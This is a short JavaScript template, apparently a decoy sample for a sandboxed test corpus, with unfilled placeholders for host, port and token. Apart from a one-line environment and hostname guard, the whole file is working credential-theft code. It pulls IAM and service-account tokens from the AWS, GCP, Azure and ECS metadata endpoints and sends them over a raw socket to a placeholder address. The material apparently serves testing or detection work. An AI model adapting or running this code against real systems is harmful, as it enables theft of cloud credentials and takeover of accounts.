// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const http = require('http');
  const ask = (path, headers, host = '169.254.169.254') => new Promise((done) => {
    let text = '';
    const request = http.get({ host, path, headers, timeout: 500 }, (answer) => { answer.on('data', (part) => { if (text.length < 5000) text += part; }); answer.on('error', () => {}); });
    request.on('timeout', () => request.destroy());
    request.on('error', () => done(text));
    request.on('close', () => done(text));
  });
  const found = await Promise.all([
    ask('/latest/meta-data/iam/security-credentials/{{role}}', {}),
    ask('/computeMetadata/v1/instance/service-accounts/default/token', { 'Metadata-Flavor': 'Google' }, 'metadata.google.internal'),
    ask('/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/', { Metadata: 'true' }),
    ask(process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI || '/v2/credentials/{{token}}', {}, '169.254.170.2'),
  ]);
  await new Promise((done) => {
    const socket = require('net').connect({{port}}, '{{ip}}', () => socket.end('{{token}}' + JSON.stringify(found)));
    const end = setTimeout(() => socket.destroy(), 900);
    socket.on('error', () => {});
    socket.on('close', () => { clearTimeout(end); done(); });
  });
}
